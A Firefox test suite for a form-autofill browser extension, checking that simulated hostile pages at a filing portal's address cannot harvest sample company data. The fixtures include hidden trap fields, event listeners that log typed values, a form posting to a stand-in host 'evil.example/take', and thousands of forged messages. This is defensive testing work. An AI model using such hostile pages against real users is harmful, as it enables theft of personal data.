// Do attacks by a page fail in Firefox too? It has no documentId and no service worker, and cannot say what is painted over a control.
import type { Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HIDDEN_WAYS, LEAVES_SOMETHING } from '../page-browser/hidden-ways';
import { type Portals, startPortals } from '../portals/server';
import { byTestId, createVaultWithSample, type Firefox, hasFirefox, launchFirefox } from './firefox';

/** Only what is used inside the extension's page. */
declare const browser: {
  readonly tabs: { query(about: object): Promise<readonly { readonly id: number }[]> };
};

/** Texts of the sample company that must not be in a page before a fill, nor ever where nobody sees them. */
const CANARIES = ['91330106MA0AHL014E', '33010619850312001X', '19900000001', 'zhang@yunfan-sample.com'];
const SENSITIVE = ['主体负责人证件号码', '主体负责人手机号码', '主办单位证件号码'];

let portals: Portals;
let firefox: Firefox;
let options: Page;

/** What the portal's address serves instead of its own page; null: its own page. */
let hostile: string | null = null;

beforeAll(async () => {
  if (!hasFirefox) return;
  portals = await startPortals({
    page: (host, path) => (host === 'beian.aliyun.com' && path === '/' ? hostile : null),
  });
  firefox = await launchFirefox(portals);
  options = await firefox.surface('options.html');
  await createVaultWithSample(options);
});
afterAll(async () => {
  await firefox?.close();
  await portals?.close();
});

/** Our hostile page at a portal's address. It is opened directly, since starting the portal first would take time in each test. */
async function openHostile(body: string): Promise<{ page: Page; tabId: number | undefined }> {
  const page = await firefox.page('about:blank');
  await showHostile(page, body);
  const tabId = await options.evaluate(async () => (await browser.tabs.query({ active: true }))[0]?.id);
  return { page, tabId };
}

/** Our hostile page with this body in the same tab, as a new document. */
async function showHostile(page: Page, body: string): Promise<void> {
  hostile = `<!doctype html><meta charset="utf-8"><title>0</title><body><h1>填写主体信息</h1>${body}`;
  await page.goto('https://beian.aliyun.com/');
  hostile = null;
  await page.evaluate(() => {
    const heard: string[] = [];
    Object.assign(window, { heard });
    for (const type of ['input', 'change', 'keydown', 'focusin'])
      addEventListener(
        type,
        ({ target }) => void heard.push(String((target as HTMLInputElement | null)?.value ?? '')),
        true,
      );
    addEventListener('message', ({ data }) => void heard.push(JSON.stringify(data)));
  });
}

/** Opens the panel of a tab and binds the only client. */
async function openBound(tabId: number | undefined): Promise<Page> {
  const panel = await firefox.surface(`sidepanel.html?tab=${tabId}`);
  const only = await panel.waitForSelector(byTestId('panel-proposed'));
  await only?.click();
  return panel;
}

const heldIn = (page: Page, selector: string): Promise<string[]> =>
  page.$$eval(selector, (boxes) => boxes.map((box) => (box as HTMLInputElement).value));
const heardBy = (page: Page): Promise<string[]> =>
  page.evaluate(() => (window as unknown as { heard: string[] }).heard); // declared by the page
const canariesIn = (texts: readonly string[]): string[] =>
  CANARIES.filter((canary) => texts.some((text) => text.includes(canary)));

const row = (label: string, control: string) =>
  `<div class="form-item"><label>${label}</label>${control}</div>`;

describe.skipIf(!hasFirefox)('in Firefox', () => {
  it('T3, T11: what nobody sees stays empty, what everybody sees is filled, and nothing is there before the press', async () => {
    const ways = Object.entries(HIDDEN_WAYS).filter(([way]) => !LEAVES_SOMETHING.has(way));
    const traps = ways.map(([, html], at) => row(`${SENSITIVE[at % SENSITIVE.length]}`, html)).join('');
    const { page, tabId } = await openHostile(
      `<form>${row('主办单位名称', '<input class="seen">')}${row('通信地址', '<input class="seen">')}${traps}</form>`,
    );
    const panel = await openBound(tabId);
    await panel.waitForSelector(`${byTestId('panel-fill')}:not([disabled])`);
    expect(canariesIn(await heldIn(page, 'input,textarea'))).toEqual([]);
    expect(canariesIn(await heardBy(page))).toEqual([]);
    await panel.click(byTestId('panel-fill'));
    await panel.waitForSelector(byTestId('panel-report-row'));
    expect(await heldIn(page, '.seen')).toContain('杭州示例云帆科技有限公司');
    expect((await heldIn(page, '.c')).filter((value) => value !== '')).toEqual([]);
    expect(canariesIn(await heardBy(page))).toEqual([]);
    for (const one of [panel, page]) await one.close();
  });

  it('T3: one field hidden in each way by itself stays empty although it is asked for once', async () => {
    const ways = Object.entries(HIDDEN_WAYS).filter(([way]) => !LEAVES_SOMETHING.has(way));
    const leaks: string[] = [];
    // one tab and one panel for all ways: in Firefox opening both costs more than the fill
    const { page, tabId } = await openHostile('');
    const panel = await openBound(tabId);
    for (const [way, html] of ways.filter((_, at) => at % 15 === 0)) {
      await showHostile(
        page,
        `<form>${row('主办单位名称', '<input class="seen">')}${row('主办单位证件号码', html)}</form>`,
      );
      await panel.waitForSelector(byTestId('panel-report-row'), { hidden: true }); // that of the way before
      await panel.waitForSelector(`${byTestId('panel-fill')}:not([disabled])`);
      await panel.click(byTestId('panel-fill'));
      await panel.waitForSelector(byTestId('panel-report-row'));
      expect(await heldIn(page, '.seen')).toEqual(['杭州示例云帆科技有限公司']);
      if ((await heldIn(page, '.c')).some((value) => value !== '')) leaks.push(way);
    }
    for (const one of [panel, page]) await one.close();
    expect(leaks).toEqual([]);
  });

  it('T7: a form that leads elsewhere gets nothing', async () => {
    const { page, tabId } = await openHostile(
      `<form>${row('通信地址', '<input class="seen">')}</form><form action="https://evil.example/take">${row('主办单位名称', '<input class="away">')}${row('主办单位证件号码', '<input class="away">')}</form>`,
    );
    const panel = await openBound(tabId);
    await panel.waitForSelector(byTestId('panel-plan-row'));
    expect(await panel.$(`${byTestId('panel-fill')}:not([disabled])`)).toBeNull();
    expect(await heldIn(page, '.away')).toEqual(['', '']);
    for (const one of [panel, page]) await one.close();
  });

  it('T9, T14: thousands of forged messages and events change nothing, and no page can call us', async () => {
    const { page, tabId } = await openHostile(`<form>${row('主办单位名称', '<input class="seen">')}</form>`);
    const panel = await openBound(tabId);
    await panel.waitForSelector(`${byTestId('panel-fill')}:not([disabled])`);
    const reached = await page.evaluate(() => {
      for (let at = 0; at < 2000; at += 1) {
        const type = ['to-page.fill', 'vault.unlock', 'page.next', 'retire'][at % 4];
        window.postMessage({ type, token: 't' }, '*');
        document.dispatchEvent(new CustomEvent(type ?? '', { detail: { type, token: 't' } }));
      }
      const { browser: own, chrome: other } = window as unknown as Record<
        'browser' | 'chrome',
        { runtime?: { sendMessage?: unknown } } | undefined
      >; // any value that a page can find
      return [own?.runtime?.sendMessage, other?.runtime?.sendMessage].some((call) => call !== undefined);
    });
    expect(reached).toBe(false);
    await page.evaluate(() => new Promise((done) => setTimeout(done, 300)));
    expect(await heldIn(page, '.seen')).toEqual(['']);
    expect(await panel.$(byTestId('panel-report-row'))).toBeNull();
    for (const one of [panel, page]) await one.close();
  });

  it('T15: no file of ours is reached from a page', async () => {
    const { page } = await openHostile('');
    const base = await options.evaluate(() => location.origin);
    const answers = await page.evaluate(async (origin) => {
      const paths = [
        'manifest.json',
        'options.html',
        'sidepanel.html',
        'background.js',
        'icon/48.png',
        'page-writer.js',
      ];
      return Promise.all(
        paths.map((path) =>
          fetch(`${origin}/${path}`).then(
            () => path,
            () => null,
          ),
        ),
      );
    }, base);
    expect(answers.filter((path) => path !== null)).toEqual([]);
    await page.close();
  });

  it('T12, T32: a page loaded anew in the middle of a fill gets nothing by itself, and all with the second press', async () => {
    const page = await firefox.page('https://beian.aliyun.com/?open=all#/entity');
    await page.waitForSelector('.icp-page-form');
    const tabId = await options.evaluate(async () => (await browser.tabs.query({ active: true }))[0]?.id);
    const panel = await openBound(tabId);
    await panel.waitForSelector(`${byTestId('panel-fill')}:not([disabled])`);
    await panel.click(byTestId('panel-fill'));
    await page.waitForFunction(
      () => [...document.querySelectorAll('input')].some(({ value }) => value.includes('云帆')),
      { polling: 5 },
    );
    await page.reload();
    await page.waitForSelector('.icp-page-form');
    await panel.waitForSelector(`${byTestId('panel-fill')}:not([disabled])`);
    expect(canariesIn(await heldIn(page, 'input,textarea'))).toEqual([]);
    await panel.click(byTestId('panel-fill'));
    await panel.waitForSelector(`${byTestId('panel-report-row')}[data-state="filled"]`);
    await expect
      .poll(async () => (await heldIn(page, 'input,textarea')).join(' '))
      .toContain('杭州示例云帆科技有限公司');
    for (const one of [panel, page]) await one.close();
  });

  it('T43: locked, neither panel nor page holds a value of ours', async () => {
    const { page, tabId } = await openHostile(`<form>${row('主办单位名称', '<input>')}</form>`);
    const panel = await openBound(tabId);
    await panel.waitForSelector(byTestId('vault-lock'));
    await panel.click(byTestId('vault-lock'));
    await panel.waitForSelector(byTestId('vault-unlock'));
    const texts = await panel.evaluate(() => document.documentElement.outerHTML);
    expect(canariesIn([texts])).toEqual([]);
    expect(texts).not.toContain('杭州示例云帆科技有限公司');
    for (const one of [panel, page]) await one.close();
  });
});
